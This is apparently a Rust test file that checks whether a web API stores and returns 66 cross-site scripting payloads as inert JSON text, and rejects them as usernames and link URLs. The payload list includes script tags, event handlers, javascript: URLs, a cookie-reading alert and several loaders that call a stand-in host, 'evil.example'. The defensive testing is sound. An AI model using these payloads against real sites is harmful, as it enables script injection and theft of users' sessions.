//! Texts that would run as a script where somebody forgot that they are texts.

use serde_json::{Value, json};

use crate::support::{Answer, World, story};

/// At most 60 characters each, so that they fit into a name.
const HOSTILE: [&str; 66] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert`1`</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=javascript:alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    "<img src=x onerror=&#97;lert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<math><mtext></form><form><mglyph><style></math><img>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/x';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=x>\">",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "';alert(1);//",
    "\\';alert(1);//",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;&#x3C;",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
];

/// It says that it is JSON, so that no browser takes it for a page.
#[track_caller]
fn assert_json(answer: &Answer) -> Value {
    assert_eq!(answer.headers["content-type"], "application/json");
    answer.expect(200)
}

story! {
    async fn hostile_texts_come_back_as_they_are_and_as_json(world: World) {
        let (ann, ben) = (world.person("ann").await, world.person("ben").await);
        for text in HOSTILE {
            let url = format!("https://example.org/?{}", text.replace(' ', "/"));
            let change = json!({
                "first_name": text, "last_name": text, "bio": text, "about": format!("{text}\n\n{text}"), "address": text,
                "links": [{ "title": text, "url": url }],
            });
            let own = assert_json(&ann.patch("/api/v1/me/profile", change.clone()).await);
            assert_eq!(own, assert_json(&ann.get("/api/v1/me/profile").await));
            let shown = assert_json(&ben.get("/api/v1/people/ann").await);
            for (field, value) in change.as_object().unwrap() {
                assert_eq!((&own[field], &shown[field]), (value, value), "{text}: {field}");
            }
            let me = assert_json(&ann.get("/api/v1/me").await);
            let people = assert_json(&ben.get("/api/v1/people").await);
            let person = people["items"].as_array().unwrap().iter().find(|person| person["username"] == "ann").unwrap();
            assert_eq!((&me["first_name"], &person["last_name"], &person["bio"]), (&json!(text), &json!(text), &json!(text)));
        }
        let export = ann.post("/api/v1/me/export", json!({ "password": crate::support::PASSWORD })).await;
        assert_eq!(assert_json(&export)["profile"]["bio"], HOSTILE[HOSTILE.len() - 1]);
    }
}

story! {
    async fn no_text_is_a_name_or_an_address_that_runs(world: World) {
        let ann = world.person("ann").await;
        for text in HOSTILE {
            let link = json!({ "links": [{ "title": "Site", "url": text }] });
            ann.patch("/api/v1/me/profile", link).await.invalid("links");
            let mut wish = crate::support::registration("eve");
            wish["username"] = json!(text);
            ann.post("/api/v1/auth/register", wish).await.invalid("username");
            // What an error quotes is JSON as well.
            let answer = ann.patch("/api/v1/me/profile", json!({ text: text })).await;
            answer.refused(400, "invalid_message");
            assert_eq!(answer.headers["content-type"], "application/json");
        }
    }
}

story! {
    async fn the_history_shows_hostile_devices_as_texts(world: World) {
        let ann = world.person("ann").await;
        for text in HOSTILE {
            let body = json!({ "identifier": "ann", "password": "guessed password" });
            let request = ann.request(reqwest::Method::POST, "/api/v1/auth/login").header("user-agent", text).json(&body);
            world.browser().send(request).await.refused(401, "wrong_credentials");
        }
        crate::support::soon(async {
            let is_there = |page: &Value| page["items"].as_array().unwrap().len() == HOSTILE.len() + 1;
            while !is_there(&assert_json(&ann.get("/api/v1/me/logins?limit=100").await)) {
                tokio::time::sleep(std::time::Duration::from_millis(5)).await;
            }
        })
        .await;
    }
}
